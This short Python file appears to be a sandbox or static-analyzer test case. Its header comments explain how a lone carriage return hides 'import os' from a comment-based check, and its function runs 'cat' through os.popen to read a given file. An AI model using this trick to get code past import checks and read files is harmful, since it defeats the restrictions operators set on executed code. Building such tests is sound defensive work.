# trick: ends a comment with a lone carriage return, after which Python reads code
# wants: file
# analysis: forbidden_import
# sandbox: No such file or directory
# What follows looks like the rest of this comment:import os


def trick(secret: str) -> str:
    return os.popen(f"cat {secret} 2>&1").read()
